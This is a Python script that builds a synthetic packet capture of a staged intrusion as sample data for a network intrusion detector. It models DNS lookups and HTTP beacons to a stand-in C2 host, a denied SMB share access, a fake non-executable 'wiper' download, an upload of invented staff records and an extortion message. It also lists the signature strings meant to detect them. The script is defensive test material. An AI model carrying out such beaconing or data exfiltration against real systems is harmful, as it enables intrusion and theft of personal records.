#!/usr/bin/python3
"""Write samples/intrusion-arc.pcap: the story of one intrusion, told in
packets, for Pasban's first run (see samples/README.md).

All addresses are private (RFC 1918) or documentation ranges (RFC 5737),
names end in .example (RFC 2606), all records are made up.  The output is
byte-for-byte reproducible:

    /usr/bin/python3 tools/make_sample.py [OUTPUT.pcap]

After writing, the script checks that each signature's literal content sits
inside exactly the expected number of packets (Pasban and Suricata match
per packet, so a content split across two segments would not alert).
"""

import os
import struct
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(ROOT, "tools", "pcapgen"))

from pcapgen import (EPOCH_2026, IcmpEcho, TcpConversation, UdpExchange,  # noqa: E402
                     Writer, decode_frame, dns, read_pcap_info)

VICTIM = "10.20.30.40"       # finance workstation WKS-0442
RESOLVER = "10.20.30.2"      # internal DNS resolver
GATEWAY = "10.20.30.1"
FILESERVER = "10.20.30.50"   # \\FS01, target of the lateral move
WEB = "192.0.2.80"           # www.example.com, benign
C2 = "198.51.100.77"         # update.destover-c2.example
DROPZONE = "203.0.113.66"    # the attackers' message server

C2_NAME = "update.destover-c2.example"
BEACON_UA = "DestoverAgent/2.1 (compatible; WinHTTP)"


def http_request(method, path, host, ua, extra=b"", body=b""):
    head = "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n" % (
        method, path, host, ua)
    head = head.encode() + extra
    if body:
        head += b"Content-Length: %d\r\n" % len(body)
    return head + b"\r\n" + body


def http_response(body, ctype="text/html", status="200 OK"):
    return ("HTTP/1.1 %s\r\nServer: nginx\r\nContent-Type: %s\r\n"
            "Content-Length: %d\r\nConnection: close\r\n\r\n" % (
                status, ctype, len(body))).encode() + body


# -- benign ---------------------------------------------------------------

def benign(w):
    IcmpEcho(w, VICTIM, GATEWAY, ident=0x0442).ping(count=2)
    w.advance(0.5)
    UdpExchange(w, (VICTIM, 51000), (RESOLVER, 53)).exchange(
        dns.query(0x1a01, "www.example.com"),
        dns.response(0x1a01, "www.example.com", [("A", WEB, 3600)]))
    w.advance(0.05)
    c = TcpConversation(w, (VICTIM, 49800), (WEB, 80))
    c.handshake()
    c.send(http_request("GET", "/", "www.example.com",
                        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/128.0"))
    page = (b"<!doctype html><html><head><title>Example Domain</title></head>"
            b"<body><h1>Example Domain</h1><p>This domain is for use in "
            b"documentation examples.</p></body></html>\n")
    c.send(http_response(page), from_client=False)
    c.close()


# -- stage 1 and 2: C2 lookup and beacons ----------------------------------

def c2_lookup(w):
    UdpExchange(w, (VICTIM, 51001), (RESOLVER, 53)).exchange(
        dns.query(0x2b02, C2_NAME),
        dns.response(0x2b02, C2_NAME, [("A", C2, 60)]))


def beacon(w, port, n, command):
    c = TcpConversation(w, (VICTIM, port), (C2, 80))
    c.handshake()
    c.send(http_request("GET", "/check.php?id=WKS-0442&n=%d" % n,
                        C2_NAME, BEACON_UA))
    c.send(http_response(b"status=ok;cmd=%s;interval=60\n" % command,
                         ctype="text/plain"), from_client=False)
    c.close()


# -- stage 3: SMB lateral move -----------------------------------------------

def smb2(command, message_id, body, status=0, response=False, session=0, tree=0):
    flags = 0x00000001 if response else 0
    hdr = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16s", 64, 1, status, command, 1,
                                    flags, 0, message_id, 0xFEFF, tree, session,
                                    b"\x00" * 16)
    msg = hdr + body
    return struct.pack("!I", len(msg)) + msg   # NetBIOS session message


def lateral_move(w):
    c = TcpConversation(w, (VICTIM, 49870), (FILESERVER, 445))
    c.handshake()
    dialects = struct.pack("<5H", 0x0202, 0x0210, 0x0300, 0x0302, 0x0311)
    negotiate = struct.pack("<HHHHI16sQ", 36, 5, 1, 0, 0x7f,
                            b"PASBANSAMPLE0442", 0) + dialects
    c.send(smb2(0, 0, negotiate))
    neg_resp = struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x0311, 0,
                           b"FS01-SERVER-GUID", 0x2f, 8388608, 8388608, 8388608,
                           0, 0, 128, 0, 0)
    c.send(smb2(0, 0, neg_resp, response=True), from_client=False)
    path = "\\\\10.20.30.50\\ADMIN$".encode("utf-16-le")
    tree = struct.pack("<HHHH", 9, 0, 64 + 8, len(path)) + path
    c.send(smb2(3, 2, tree, session=0x0000100000000042))
    denied = struct.pack("<HBB", 9, 0, 0)
    c.send(smb2(3, 2, denied, status=0xC0000022, response=True,
                session=0x0000100000000042), from_client=False)
    c.rst(from_client=True)


# -- stage 4: wiper download -------------------------------------------------

WIPER_MARKER = b"DESTOVER-WIPER igfxtrayex payload v2 :: PASBAN-SAMPLE-MARKER"


def fake_pe():
    """A harmless blob shaped like a PE: MZ header, DOS stub text, PE
    signature at e_lfanew=0x80, then filler with a marker string.  It is
    not executable code."""
    mz = bytearray(0x80)
    mz[0:2] = b"MZ"
    struct.pack_into("<HHHHH", mz, 2, 0x90, 3, 0, 4, 0)
    struct.pack_into("<I", mz, 0x3C, 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    mz[0x4E:0x4E + len(stub)] = stub
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x014C, 3, 0x67AB1200, 0, 0, 0xE0, 0x0102)
    body = bytes(mz) + pe
    filler = bytes((i * 37 + 11) & 0xFF for i in range(1800 - len(body)))
    body += filler + WIPER_MARKER + bytes((i * 53 + 7) & 0xFF for i in range(1400))
    return body


def wiper_download(w):
    c = TcpConversation(w, (VICTIM, 49890), (C2, 80))
    c.handshake()
    c.send(http_request("GET", "/igfxtrayex.exe", C2_NAME, BEACON_UA))
    c.send(http_response(fake_pe(), ctype="application/octet-stream"),
           from_client=False, segment_size=1400)
    c.close()


# -- stage 5: exfiltration of staff records ----------------------------------

FIRST = ["Alice", "Bob", "Carol", "Dmitri", "Eun-ji", "Farah", "Gustavo", "Hiro",
         "Ines", "Jamal", "Keiko", "Lars", "Mei", "Nikolai", "Olu", "Priya"]
LAST = ["Abbott", "Baker", "Chen", "Diaz", "Evans", "Fischer", "Garcia", "Hughes",
        "Ito", "Jensen", "Kowalski", "Lopez", "Moreau", "Nakamura", "Okafor", "Patel"]


def staff_csv(rows=120):
    """Made-up records.  'SSNs' start with 9, a range never issued as an
    SSN, so nothing here can be a real number."""
    out = ["employee_id,name,ssn,salary"]
    for i in range(rows):
        name = "%s %s" % (FIRST[i % 16], LAST[(i * 7) % 16])
        ssn = "9%02d-%02d-%04d" % ((i * 13) % 100, (i * 7) % 90 + 10, (i * 7919) % 10000)
        out.append("%d,%s,%s,%d" % (10400 + i, name, ssn, 42000 + (i * 1373) % 90000))
    return ("\n".join(out) + "\n").encode()


def exfiltrate(w):
    c = TcpConversation(w, (VICTIM, 49910), (C2, 80))
    c.handshake()
    body = staff_csv()
    c.send(http_request("POST", "/upload.php?f=hr_export.csv", C2_NAME, BEACON_UA,
                        extra=b"Content-Type: text/csv\r\n", body=body),
           segment_size=1400)
    c.send(http_response(b"received\n", ctype="text/plain"), from_client=False)
    c.close()


# -- stage 6: the threat ---------------------------------------------------

THREAT = (b"#GOP\r\n"
          b"Warning: We've already warned you, and this is just a beginning.\r\n"
          b"We've obtained all your internal data including your secrets and "
          b"top secrets.\r\nIf you don't obey us, we'll release data shown "
          b"below to the world.\r\n")


def threat(w):
    c = TcpConversation(w, (VICTIM, 49950), (DROPZONE, 8080))
    c.handshake()
    c.send(b"HELLO WKS-0442\r\n")
    c.send(THREAT, from_client=False)
    c.close(from_client=False)


# -- the capture -----------------------------------------------------------

def write(path):
    with Writer(path, start=EPOCH_2026 + 9 * 3600) as w:   # 09:00 UTC
        benign(w)
        w.advance(4.0)
        c2_lookup(w)
        w.advance(0.1)
        beacon(w, 49812, 1, b"sleep")
        w.advance(30.0)
        beacon(w, 49813, 2, b"download")
        w.advance(5.0)
        wiper_download(w)
        w.advance(12.0)
        lateral_move(w)
        w.advance(20.0)
        exfiltrate(w)
        w.advance(2.0)
        IcmpEcho(w, VICTIM, GATEWAY, ident=0x0443).ping(count=1)
        w.advance(40.0)
        threat(w)


# Literal pieces of samples/intrusion-arc.rules and how many packets must
# carry each one whole.
EXPECTED_PACKETS = [
    (b"\x06update\x0bdestover-c2\x07example\x00", 2),   # query + response
    (b"GET /check.php?id=", 2),
    (b"User-Agent: DestoverAgent/", 4),                    # 2 beacons, download, upload
    (b"cmd=", 2),
    (b"ADMIN$".decode().encode("utf-16-le"), 1),
    (b"GET /igfxtrayex.exe", 1),
    (b"This program cannot be run in DOS mode", 1),
    (WIPER_MARKER, 1),
    (b"employee_id,name,ssn,salary", 1),
    (b"We've obtained all your internal data", 1),
    (b"#GOP", 1),
]


def self_check(path):
    linktype, records = read_pcap_info(path)
    payloads = []
    for _, frame in records:
        info = decode_frame(frame, linktype)
        assert info["csum_ok"], "bad checksum in sample"
        payloads.append(info["payload"])
    for needle, want in EXPECTED_PACKETS:
        got = sum(1 for p in payloads if needle in p)
        assert got == want, "%r in %d packets, expected %d" % (needle, got, want)
    return len(records)


def main():
    path = sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, "samples",
                                                                "intrusion-arc.pcap")
    write(path)
    n = self_check(path)
    print("wrote %s (%d packets)" % (os.path.relpath(path), n))


if __name__ == "__main__":
    main()
